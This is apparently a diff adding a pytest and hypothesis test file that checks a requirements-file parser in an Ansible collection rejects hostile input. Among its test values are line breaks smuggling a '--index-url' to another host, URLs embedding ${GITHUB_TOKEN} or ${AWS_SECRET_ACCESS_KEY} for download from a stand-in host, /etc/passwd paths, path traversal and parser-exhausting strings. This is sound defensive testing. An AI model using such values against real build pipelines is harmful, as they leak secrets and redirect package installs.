@@ -1,0 +1,189 @@
+"""Requirements files of others: whatever is in them is read, or is a message, soon."""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import pathlib
+import tempfile
+
+import pytest
+from ansible_collections.baton.web.plugins.module_utils.artifact import lockfile, requirements, wheels
+from ansible_collections.baton.web.plugins.module_utils.artifact.targets import Target
+from ansible_collections.baton.web.plugins.module_utils.artifact.toolchain import Tools
+from ansible_collections.baton.web.plugins.module_utils.host.command import BatonError
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+TARGET = Target(11, "x86_64", (2, 36))
+
+
+def read(folder: pathlib.Path, text: str | bytes, **others: str) -> requirements.Requirements:
+    path = folder / "requirements.txt"
+    path.write_bytes(text.encode() if isinstance(text, str) else text)
+    for name, content in others.items():
+        (folder / name).write_text(content)
+    return requirements.read(path, root=folder, within=folder)
+
+
+@pytest.mark.parametrize(
+    ("line", "why"),
+    [
+        # what would end the parser, or keep it busy for hours
+        pytest.param("a; " + "(" * 1800 + "os_name == 'a'" + ")" * 1800, "is not a requirement", id="parentheses"),
+        pytest.param("a; " + "(" * 600 + "os_name=='a'" + ")" * 600, "is not a requirement", id="fewer parentheses"),
+        pytest.param("[" * 200_000, "is too long", id="brackets"),
+        pytest.param("./" + "[a" * 60_000 + "x", "is too long", id="brackets in a path"),
+        pytest.param("a==" + "1." * 100_000 + "x", "is too long", id="version"),
+        pytest.param("x" * 200_000 + "!", "is too long", id="word"),
+        pytest.param("!" + "/baton-artifact" * 10_000, "is too long", id="our own folders' names"),
+        pytest.param("a==1 " + "--hash=sha256:0 " * 20_000, "is too long", id="hashes"),
+        # what is no address, or not one of the index or the source
+        ("file://[", "is no URL"),
+        ("a @ file://[", "is not a requirement"),
+        ("a @ http://[", "is not a requirement"),
+        ("file:./x%0A--index-url%20http://elsewhere", "has a line break"),
+        ("a @ file:./x%0A--index-url%20http://elsewhere", "has a line break"),
+        ("a @ FTP://elsewhere/a.whl", "none of https, http, git and file"),
+        ("a @ data:,x", "none of https, http, git and file"),
+        # what uv would replace by the operator's own
+        ("a @ https://elsewhere/${HOME}/a.whl", "a variable of the controller"),
+        ("-e git+https://elsewhere/${GITHUB_TOKEN}#egg=a", "a variable of the controller"),
+        # what a terminal obeys
+        ("a==1\x1b[2J", "has control characters"),
+        ("a==1 # \x00", "has control characters|a NUL"),
+    ],
+)
+def test_what_no_lock_says_is_a_message(tmp_path: pathlib.Path, line: str, why: str) -> None:
+    with pytest.raises(BatonError, match=why) as failed:
+        read(tmp_path, f"{line}\n")
+    assert len(str(failed.value)) < 2000
+
+
+def test_a_file_s_address_is_a_place_however_it_is_written(tmp_path: pathlib.Path) -> None:
+    found = read(tmp_path, "a @ FILE:///etc/passwd\nb @ File:///etc/passwd\n")
+    assert found.locals == [(pathlib.Path("/etc/passwd"), "")] * 2  # of which the lock's reader asks where it leads
+    assert not found.pins
+
+
+def test_a_path_that_is_too_long_is_not_there(tmp_path: pathlib.Path) -> None:
+    assert read(tmp_path, f"./{'a' * 300}\n").locals == [(tmp_path / ("a" * 300), "")]
+
+
+def test_extras_of_a_path_are_its_last_brackets() -> None:
+    paths = ("./a[b]", "./a[b,c]", "./a", "./[a][b]", "./a[b[c]", "./a]", "/a[b]c")
+    assert [requirements.local_path(path) for path in paths] == [
+        ("./a", "[b]"),
+        ("./a", "[b,c]"),
+        ("./a", ""),
+        ("./[a]", "[b]"),
+        ("./a", "[b[c]"),
+        ("./a]", ""),
+        ("/a[b]c", ""),
+    ]
+
+
+def test_files_that_include_each_other_have_an_end(tmp_path: pathlib.Path) -> None:
+    assert read(tmp_path, "-r a\na==1\n", a="-r b\nb==1\n", b="-r a\n-c requirements.txt\n").lines == ["b==1", "a==1"]
+    with pytest.raises(BatonError, match="more than 100 files"):
+        read(tmp_path, "-r f0\n", **{f"f{number}": f"-r f{number + 1}\n" for number in range(3000)})
+
+
+def test_what_is_included_is_a_file_that_has_an_end(tmp_path: pathlib.Path) -> None:
+    os.mkfifo(tmp_path / "pipe")
+    os.truncate(os.open(tmp_path / "sparse", os.O_CREAT | os.O_WRONLY), 2**40)
+    (tmp_path / "loop").symlink_to("loop")
+    (tmp_path / "zero").symlink_to("/dev/zero")
+    for name, why in (
+        ("pipe", "is no file"),
+        ("sparse", "is larger than"),
+        ("loop", "can't be read"),
+        (".", "no file"),
+    ):
+        with pytest.raises(BatonError, match=why):
+            read(tmp_path, f"-r {name}\n")
+    for name in ("zero", "/etc/passwd", "../elsewhere", "a/../../elsewhere"):
+        with pytest.raises(BatonError, match="leads out of the source"):
+            read(tmp_path, f"-r {name}\n")
+
+
+@pytest.mark.parametrize(
+    "marker", ["os_name ~= 'posix'", "'a' == 'b'", "python_full_version ~= '3'", "(" * 400 + "x", "nonsense"]
+)
+def test_a_marker_without_an_answer_is_a_message(marker: str) -> None:
+    with pytest.raises(BatonError, match="has no answer"):
+        TARGET.holds(marker)
+
+
+def test_a_python_that_is_none_is_a_message() -> None:
+    locked = lockfile.Locked("uv.lock", "uv.lock", [], requires_python=[("uv.lock of the source", "\N{SNAKE} >> 3")])
+    with pytest.raises(BatonError, match=r"uv.lock of the source asks for Python .* which is no version"):
+        lockfile.check_python(locked, [TARGET])
+
+
+def test_what_a_build_asks_for_is_given_no_variable_of_the_operator(tmp_path: pathlib.Path) -> None:
+    (tmp_path / "pyproject.toml").write_text(
+        '[build-system]\nrequires = ["a @ https://elsewhere/${AWS_SECRET_ACCESS_KEY}/a-1-py3-none-any.whl"]\n'
+    )
+    wanted = wheels._declared_requirements(tmp_path)
+    with pytest.raises(BatonError, match=r"What thing needs to be built asks for .* a variable of the controller"):
+        wheels._wheels_for("thing", wanted, TARGET, Tools(tmp_path / "cache"))
+
+
+NAMES = st.sampled_from(["a", "b", "sub/c", "loop", "../x", "/etc/passwd", "requirements.txt", "pipe"])
+OPTIONS = (
+    "-r ",
+    "--requirement=",
+    "-c ",
+    "-e ",
+    "-e ./",
+    "--index-url ",
+    "--find-links=",
+    "--hash=",
+    "-",
+    "a @ ",
+    "file:",
+)
+LINES = st.one_of(
+    st.builds(str.__add__, st.sampled_from(OPTIONS), NAMES),
+    st.builds(
+        str.__add__,
+        st.sampled_from(["a==1 ", "a>=1; ", "a[b] @ ", "git+", "# ", "./", "a==1 \\\n"]),
+        st.text(max_size=20),
+    ),
+    st.text(max_size=40),
+    st.text(alphabet="ab=<>!~[](){}$;'\".,@:/#&% -\\\n\t123", max_size=40),
+)
+
+
+@settings(max_examples=settings().max_examples * 3)
+@given(st.lists(LINES, max_size=5), st.lists(LINES, max_size=3))
+def test_any_lines_are_read_or_are_a_message(lines: list[str], included: list[str]) -> None:
+    with tempfile.TemporaryDirectory() as name:
+        folder = pathlib.Path(name)
+        (folder / "sub").mkdir()
+        (folder / "loop").symlink_to("loop")
+        os.mkfifo(folder / "pipe")
+        text = "\n".join(included).encode(errors="replace")
+        for path in ("a", "b", "sub/c"):
+            (folder / path).write_bytes(text)
+        try:
+            found = read(folder, "\n".join(lines).encode(errors="replace"))
+            for pin in found.pins:
+                TARGET.holds(pin.marker)
+                assert "\n" not in pin.line()
+            lockfile.for_target(found.pins, TARGET)
+        except BatonError:
+            return
+        # what is handed on to uv is a requirement a line, without options
+        for line in (*found.lines, *found.constraints, *(str(path) for path, _ in found.locals)):
+            assert not {"\n", "\0"} & set(line)
+            assert not line.startswith("-")
+            assert "${" not in line
+        assert all(path.resolve().is_relative_to(folder.resolve()) for path in found.files)
+
+
+@given(st.binary(max_size=200))
+def test_any_bytes_are_read_or_are_a_message(content: bytes) -> None:
+    with tempfile.TemporaryDirectory() as name, contextlib.suppress(BatonError):
+        read(pathlib.Path(name), content)
